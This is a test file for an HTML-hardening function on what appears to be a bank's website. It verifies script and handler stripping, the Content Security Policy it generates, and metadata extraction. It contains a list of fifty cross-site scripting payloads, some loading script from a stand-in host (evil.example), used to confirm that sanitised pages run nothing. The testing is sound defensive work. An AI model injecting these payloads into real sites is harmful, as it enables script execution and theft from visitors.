import { createHash } from 'node:crypto'
import { type DefaultTreeAdapterTypes, defaultTreeAdapter, parse, serialize } from 'parse5'
import { describe, expect, it } from 'vitest'
import { toScriptText } from '@/src/site/structured-data'
import { hardenHtml } from './harden-html'

type Element = DefaultTreeAdapterTypes.Element
type ParentNode = DefaultTreeAdapterTypes.ParentNode

const page = (body: string, head = '') =>
  `<!DOCTYPE html><html lang="pt-AO"><head><title>BCS</title>${head}</head><body>${body}</body></html>`

const bodyOf = (body: string) => hardenHtml(page(body), { isSecure: true }).html.split('<body>')[1]?.split('</body>')[0]
const headOf = (head: string) =>
  /<head>(.*)<\/head>/.exec(hardenHtml(page('', head), { isSecure: true }).html)?.[1]?.replace('<title>BCS</title>', '')

function policyOf(source: string, options: Parameters<typeof hardenHtml>[1]): Map<string, string[]> {
  const { contentSecurityPolicy } = hardenHtml(source, options)
  return new Map(
    contentSecurityPolicy.split('; ').map((directive) => {
      const [name = '', ...values] = directive.split(' ')
      return [name, values]
    }),
  )
}

function elementsOf(node: ParentNode): Element[] {
  const children = 'content' in node ? node.content.childNodes : node.childNodes
  return children.flatMap((child) => (defaultTreeAdapter.isElementNode(child) ? [child, ...elementsOf(child)] : []))
}

const attributeOf = ({ attrs }: Element, name: string) => attrs.find((attribute) => attribute.name === name)?.value

it('gives the same bytes wherever the font was asked for while the page was drawn', () => {
  const font = '<link rel="preload" href="/a.woff2" as="font" type="font/woff2" crossorigin="anonymous">'
  const drawn = (before: string, after: string) =>
    hardenHtml(
      `<!DOCTYPE html><html><head><meta charset="utf-8">${before}<title>BCS</title><meta name="a">${after}</head></html>`,
      { isSecure: true },
    ).html
  expect(drawn('', font)).toBe(drawn(font, ''))
  expect(drawn('', font)).toContain(`<meta charset="utf-8">${font}<title>`)
})

it('says which uploaded pictures the page shows, without what its links lead to', () => {
  const { shownPictures, uploads } = hardenHtml(
    page(
      '<picture><source srcset="/media/a%20b-480.avif 480w, /media/a%20b-960.avif 960w"><img src="/media/a%20b.png"></picture>' +
        '<a href="/media/typed.png">a</a><a href="/documents/typed.pdf">b</a><img src="/icon-512.png">',
    ),
    { isSecure: true },
  )
  expect(shownPictures).toEqual(['/media/a b-480.avif', '/media/a b-960.avif', '/media/a b.png'])
  expect(uploads).toContain('/documents/typed.pdf')
})

describe('hardenHtml removes', () => {
  it.each([
    '<script>self.__next_f.push([1])</script>',
    '<script>self.__next_f.push([1])</script><script>self.__next_f.push([2,"a"])</script>',
    '<script>self.__next_f.push([1,"a<b"])</script>',
    '<script src="/_next/static/a.js" async></script>',
    '<script type="module">1</script>',
    '<script type="">1</script>',
    '<script type="application/json">{}</script>',
    '<script type=" application/ld+json">1</script>',
    '<SCRIPT>1</SCRIPT>',
    '<!--$-->',
    '<!-- a --><!--/$-->',
  ])('%s', (markup) => {
    expect(bodyOf(`<p>a</p>${markup}<p>b</p>`)).toBe('<p>a</p><p>b</p>')
  })

  it('no text that only looks like a script', () => {
    const text = '<p>&lt;script&gt;self.__next_f.push([1])&lt;/script&gt;</p>'
    expect(bodyOf(text)).toBe(text)
  })

  it('script and comments inside drawings and templates too', () => {
    expect(bodyOf('<svg><g><script>1</script><!--x--></g></svg>')).toBe('<svg><g></g></svg>')
    expect(bodyOf('<template shadowrootmode="open"><script>1</script><!--x--><i onclick="1">a</i></template>')).toBe(
      '<template shadowrootmode="open"><i>a</i></template>',
    )
  })

  it('links that fetch script, and keeps those that fetch styles and fonts', () => {
    const kept = '<link rel="preload" as="font" href="/a.woff2" crossorigin=""><link rel="stylesheet" href="/a.css">'
    const removed = '<link rel="preload" as="script" href="/a.js"><link rel="modulepreload" href="/b.js">'
    expect(headOf(`${removed}${kept}`)).toBe(kept)
  })

  it('styles and handlers written on elements, in HTML, SVG and MathML', () => {
    expect(bodyOf('<a href="/x" style="color:red" onclick="1" ONFOCUS="2" class="c">a</a>')).toBe(
      '<a href="/x" class="c">a</a>',
    )
    expect(bodyOf('<p data-precedence="next" data-modules="a">a</p>')).toBe('<p>a</p>')
    expect(bodyOf('<svg onload="1" viewBox="0 0 1 1"><path style="fill:red" onbegin="1" d="M0 0"></path></svg>')).toBe(
      '<svg viewBox="0 0 1 1"><path d="M0 0"></path></svg>',
    )
    expect(bodyOf('<math onclick="1"><mi onmouseover="1">x</mi></math>')).toBe('<math><mi>x</mi></math>')
  })
})

describe('hardenHtml keeps', () => {
  it('structured data, byte for byte', () => {
    const data = `<script type="application/ld+json">${toScriptText({ name: 'A & B </script><script>1</script>' })}</script>`
    expect(bodyOf(data)).toBe(data)
  })

  it('everything else as it is, and gives the same bytes each time', () => {
    const source = page('<main id="a"><p>Preço: 1&nbsp;234,50 &amp; mais &lt;b&gt;</p><input value="&quot;"></main>')
    const once = hardenHtml(source, { isSecure: true })
    expect(once.html).toBe(source)
    expect(hardenHtml(source, { isSecure: true })).toEqual(once)
    expect(hardenHtml(once.html, { isSecure: true })).toEqual(once)
  })
})

describe('the policy of a hardened page', () => {
  it('names each style element that is left, as a browser reads it, and lets no script run', () => {
    const styles = ['a > b { color: red }', '.x { content: "&amp;" }']
    const source = page('<p style="color:red">a</p>', styles.map((style) => `<style>${style}</style>`).join(''))
    const policy = policyOf(source, { isSecure: true })
    const hashes = styles.map((style) => `'sha256-${createHash('sha256').update(style).digest('base64')}'`)
    expect(policy.get('style-src')).toEqual(["'self'", ...hashes])
    expect(policy.get('script-src')).toEqual(["'none'"])
    expect(policy.get('default-src')).toEqual(["'none'"])
    expect(policyOf(page('<style>a{}</style>'), { isSecure: true }).get('style-src')).toHaveLength(2)
  })

  it('lets forms post to the site and to the origins it is told', () => {
    const formOrigins = ['https://ib.example', 'https://empresas.example']
    expect(policyOf(page(''), { isSecure: true, formOrigins }).get('form-action')).toEqual(["'self'", ...formOrigins])
    expect(policyOf(page(''), { isSecure: true }).get('form-action')).toEqual(["'self'"])
  })

  it('upgrades plain requests only where the site is encrypted', () => {
    expect(policyOf(page(''), { isSecure: true }).has('upgrade-insecure-requests')).toBe(true)
    expect(policyOf(page(''), { isSecure: false }).has('upgrade-insecure-requests')).toBe(false)
  })
})

const payloads = [
  '<script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '</noscript><script>alert(1)</script>',
  '<ScRiPt >alert(1)</sCrIpT >',
  '<script src=//evil.example/x.js></script>',
  '<script/src=data:,alert(1)>',
  '<script\n>alert(1)</script\n>',
  '<<script>alert(1)//<</script>',
  '<script type="module">import "//evil.example"</script>',
  '<script type="text/ecmascript">alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '--><script>alert(1)</script>',
  '<!--><script>alert(1)</script>',
  ']]><script>alert(1)</script>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<img src=x onerror=alert(1)>',
  '<img src=x oNeRrOr=alert(1)>',
  '<img/src=x/onerror=alert(1)>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)//',
  '<svg><script>alert(1)</script></svg>',
  '<svg><script href=data:,alert(1) /></svg>',
  '<svg><script xlink:href="data:,alert(1)"></script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><style><script>alert(1)</script></style></svg>',
  '<svg><foreignObject><body onload=alert(1)></foreignObject></svg>',
  '<math><mtext><script>alert(1)</script></mtext></math>',
  '<math href="javascript:alert(1)" onclick=alert(1)>x</math>',
  '<body onload=alert(1)>',
  '<html onmouseover=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<a onclick=alert(1) href="#">x</a>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<marquee onstart=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<template shadowrootmode=open><img src=x onerror=alert(1)></template>',
  '<table><script>alert(1)</script></table>',
  '<select><script>alert(1)</script></select>',
  '<link rel=modulepreload href=//evil.example/x.js>',
  '" onmouseover="alert(1)',
  "' onfocus='alert(1)' autofocus='",
  '&lt;script&gt;alert(1)&lt;/script&gt;&#60;img onerror=alert(1)&#62;',
]

/** What could run, were there no policy: script elements that hold no data, and handlers. */
function runnableIn(html: string): string[] {
  return elementsOf(parse(html)).flatMap((element) => {
    const handlers = element.attrs.map(({ name }) => name).filter((name) => name.startsWith('on'))
    const isScript = element.tagName === 'script' && attributeOf(element, 'type') !== 'application/ld+json'
    return [...(isScript ? ['script'] : []), ...handlers]
  })
}

describe('words of an attacker', () => {
  it('are fifty different ones', () => {
    expect(new Set(payloads).size).toBe(50)
  })

  it.each(payloads)('stay words in text, attributes and data: %s', (payload) => {
    const template = page('<h1 title="x">x</h1><svg><title>x</title></svg><textarea>x</textarea><img alt="x">')
    const drawn = parse(template.replace('</head>', '<script type="application/ld+json">x</script></head>'))
    for (const element of elementsOf(drawn)) {
      for (const attribute of element.attrs) if (attribute.value === 'x') attribute.value = payload
      for (const child of element.childNodes) {
        if (!defaultTreeAdapter.isTextNode(child) || child.value !== 'x') continue
        child.value = element.tagName === 'script' ? toScriptText({ name: payload }) : payload
      }
    }
    const { html } = hardenHtml(serialize(drawn), { isSecure: true })
    const elements = elementsOf(parse(html))
    expect(elements.map(({ tagName }) => tagName)).toEqual(elementsOf(drawn).map(({ tagName }) => tagName))
    expect(elements.flatMap(({ attrs }) => attrs.filter(({ value }) => value === payload))).toHaveLength(2)
    expect(html).toBe(serialize(drawn))
    expect(runnableIn(html)).toEqual([])
  })

  it.each(payloads)('run nothing even where they were written as markup: %s', (payload) => {
    for (const source of [page(payload), page(`<p title="${payload}">${payload}</p>`), page('', payload)]) {
      expect(runnableIn(hardenHtml(source, { isSecure: true }).html)).toEqual([])
    }
  })
})

it('reads the words of the main part for search, without those of pictures', () => {
  const phone = '<div role="img" aria-label="Um ecrã"><div aria-hidden="true"><p>+ 385 000,00 Kz</p></div></div>'
  expect(
    hardenHtml(page(`<p>Antes</p><main><h1>Conta</h1>${phone}<p>Sem custo</p></main>`), { isSecure: true }).text,
  ).toBe('Conta Sem custo')
})

it('says which forms a page shows in its main part, by version', () => {
  const island = (name: string, props: object) =>
    `<div data-island="${name}" data-props='${JSON.stringify(props)}'><form></form></div>`
  const form = { id: 'a', action: '/en/_forms/contact', headingLevel: 2, controls: { version: 'abc', note: '' } }
  const { shownForms } = hardenHtml(
    page(
      `${island('BankForm', form)}${island('LoanSlider', { amount: 1 })}${island('BankForm', { action: '/x' })}` +
        '<footer><form action="/en/_forms/newsletter"><input name="_version" value="def"></form></footer>',
    ),
    { isSecure: true },
  )
  expect(shownForms).toEqual([{ formKey: 'contact', version: 'abc' }])
})
